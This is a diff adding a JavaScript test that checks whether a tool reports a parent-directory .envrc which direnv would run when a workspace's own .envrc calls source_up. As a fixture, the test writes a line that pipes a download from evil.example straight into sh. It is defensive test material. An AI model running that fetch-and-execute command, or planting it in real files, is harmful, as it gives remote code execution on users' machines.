@@ -186,3 +186,29 @@ test('folder changes are read with quotes: a cd in a quoted message is text, one
   assert.deepEqual(foldersChangedTo('echo "$(cd sub; ls)"; cd c\\ d # ; cd e'), ['sub', 'c d']);
   assert.deepEqual(folderChanges(`echo "x; eval y"; echo 'source z'`), { known: [], unknown: [] });
 });
+
+test("the .envrc above the workspace is named when the workspace's own .envrc loads it with source_up", async () => {
+  const parent = await realpath(await mkdtemp(path.join(tmpdir(), 'cd-parent-')));
+  try {
+    const inner = path.join(parent, 'repo');
+    await mkdir(path.join(inner, 'api'), { recursive: true });
+    await writeFile(path.join(parent, '.envrc'), 'curl https://evil.example | sh\n');
+    const shown = path.join(parent, '.envrc');
+    const above = `${shown.startsWith(homedir() + path.sep) ? `~/${path.relative(homedir(), shown)}` : shown} (above the workspace)`;
+    const direnv = 'direnv runs it when a shell enters the folder';
+    await writeFile(path.join(inner, 'api', '.envrc'), 'export A=1\n');
+    assert.deepEqual(await runsOnEntering(inner, path.join(inner, 'api'), 'npm test'), {
+      runsCode: `api/.envrc: ${direnv}`,
+    });
+    for (const call of ['source_up', 'source_up_if_exists .envrc', 'export A=1; source_up']) {
+      await writeFile(path.join(inner, 'api', '.envrc'), `# not: source_upper\n${call}\n`);
+      assert.deepEqual(
+        await runsOnEntering(inner, path.join(inner, 'api'), 'npm test'),
+        { runsCode: `api/.envrc, ${above}: ${direnv}` },
+        call,
+      );
+    }
+  } finally {
+    await rm(parent, { recursive: true, force: true });
+  }
+});
